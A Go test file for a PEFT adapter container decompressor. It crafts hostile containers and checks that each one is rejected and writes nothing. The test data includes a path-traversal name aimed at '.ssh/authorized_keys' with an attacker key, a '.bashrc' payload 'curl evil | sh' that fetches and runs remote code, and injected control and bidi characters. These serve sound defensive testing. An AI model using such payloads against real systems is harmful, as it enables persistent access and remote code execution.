package compress

import (
	"bytes"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"testing"
)

var updateAttacks = flag.Bool("update-attacks", false, "rewrite the crafted containers of testdata/attack")

// attack is a crafted container of testdata/attack. Each is built here, so
// a file and what it claims to do cannot drift apart; TestAttackFiles
// checks the files against these builders (-update-attacks rewrites them).
type attack struct {
	file   string
	what   string
	header Header
	coded  []Coded
	want   error // what Expand fails with
}

const loraConfig = `{"peft_type":"LORA","r":16}`

func loraHeader() Header {
	return Header{PeftType: "LORA", ConfigName: AdapterConfigFile, Config: loraConfig, Density: 0.2, Alpha: "auto", Scope: ScopeGlobal}
}

// zeros is a tensor of n zeros: kept 0, an empty payload.
func zeros(name, dtype string, shape ...int64) Coded {
	return Coded{TensorHeader: TensorHeader{Name: name, DType: dtype, Shape: shape, Mode: modeSparse, M: 1}}
}

func withConfig(name, config string) Header {
	h := loraHeader()
	h.ConfigName, h.Config = name, config
	return h
}

var attacks = []attack{
	{file: "config-traversal.cpeft", what: "config name ../../.ssh/authorized_keys: was written as DIR/authorized_keys",
		header: withConfig("../../.ssh/authorized_keys", `"ssh-ed25519 AAAA attacker"`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
	{file: "config-dotfile.cpeft", what: "config name .bashrc in the output directory",
		header: withConfig(".bashrc", `"curl evil | sh"`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
	{file: "config-marker.cpeft", what: "config name .expertd.json: would overwrite the hand-off marker",
		header: withConfig(".expertd.json", `{"cid":"bafkrei..."}`), coded: []Coded{zeros("a", "F32", 4)}, want: ErrCorrupt},
}

func (a attack) bytes(t testing.TB) []byte {
	t.Helper()
	var buf bytes.Buffer
	if _, err := Write(&buf, a.header, a.coded); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestAttackFiles keeps testdata/attack in step with the builders.
func TestAttackFiles(t *testing.T) {
	for _, a := range attacks {
		path := filepath.Join("testdata/attack", a.file)
		want := a.bytes(t)
		if *updateAttacks {
			if err := os.WriteFile(path, want, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		got, err := os.ReadFile(path)
		if err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s differs from its builder (%v): run go test -run TestAttackFiles -update-attacks", path, err)
		}
	}
}

// TestAttackContainers decompresses every crafted container: each must
// fail with its error and leave the output directory as it was.
func TestAttackContainers(t *testing.T) {
	for _, a := range attacks {
		t.Run(a.file, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join("testdata/attack", a.file))
			if err != nil {
				t.Fatal(err)
			}
			out := filepath.Join(t.TempDir(), "out")
			_, err = Expand(bytes.NewReader(data), out, ExpandOptions{})
			if !errors.Is(err, a.want) {
				t.Fatalf("%s: got %v, want %v", a.what, err, a.want)
			}
			t.Logf("%s: %v", a.what, err)
			entries, _ := os.ReadDir(out)
			if len(entries) != 0 {
				t.Fatalf("%d entries written", len(entries))
			}
		})
	}
}

// TestConfigNames: only adapter_config.json (config.json for a full
// residual), or no config, passes the header check; the same name with
// any other spelling or path does not.
func TestConfigNames(t *testing.T) {
	for _, c := range []struct {
		peft, name, config string
		ok                 bool
	}{
		{"LORA", AdapterConfigFile, loraConfig, true},
		{"IA3", AdapterConfigFile, `{}`, true},
		{"LORA", "", "", true},
		{PeftTypeFull, ModelConfigFile, `{"model_type":"gpt2"}`, true},
		{PeftTypeFull, "", "", true},
		{"LORA", ModelConfigFile, `{}`, false},
		{PeftTypeFull, AdapterConfigFile, `{}`, false},
		{"LORA", "./adapter_config.json", `{}`, false},
		{"LORA", "x/adapter_config.json", `{}`, false},
		{"LORA", "/adapter_config.json", `{}`, false},
		{"LORA", "adapter_config.json/", `{}`, false},
		{"LORA", "ADAPTER_CONFIG.JSON", `{}`, false},
		{"LORA", "adapter_config.json\x00", `{}`, false},
		{"LORA", AdapterWeightsFile, `{}`, false},
		{"LORA", "..", `{}`, false},
		{"LORA", ".", `{}`, false},
		{"LORA", `..\..\x`, `{}`, false},
		{"LORA", "", `{"peft_type":"LORA"}`, false}, // a config with no name
		{"LORA", AdapterConfigFile, `not json`, false},
		{"LO RA", AdapterConfigFile, `{}`, false},
		{"LORA\u202e", AdapterConfigFile, `{}`, false},
	} {
		h := Header{PeftType: c.peft, ConfigName: c.name, Config: c.config, Density: 0.2, Alpha: "auto", Scope: ScopeGlobal}
		var buf bytes.Buffer
		if _, err := Write(&buf, h, []Coded{zeros("a", "F32", 4)}); err != nil {
			t.Fatal(err)
		}
		_, err := NewReader(&buf)
		if c.ok && err != nil || !c.ok && !errors.Is(err, ErrCorrupt) {
			t.Errorf("%s %q: %v", c.peft, c.name, err)
		}
	}
}

// TestDisplayedStrings: tensor names, alpha and the base fingerprint are
// shown by inspect; control and format characters are refused.
func TestDisplayedStrings(t *testing.T) {
	for _, mod := range []func(*Header, *Coded){
		func(_ *Header, c *Coded) { c.Name = "a\x1b[2J" },
		func(_ *Header, c *Coded) { c.Name = "lora_A\u202e" },
		func(h *Header, _ *Coded) { h.Alpha = "auto\n" },
		func(h *Header, _ *Coded) { h.Base = "sha256:\u200b" },
	} {
		h, c := loraHeader(), zeros("a", "F32", 4)
		mod(&h, &c)
		var buf bytes.Buffer
		if _, err := Write(&buf, h, []Coded{c}); err != nil {
			t.Fatal(err)
		}
		if _, err := NewReader(&buf); !errors.Is(err, ErrCorrupt) {
			t.Errorf("%+v %q: %v", h, c.Name, err)
		}
	}
}
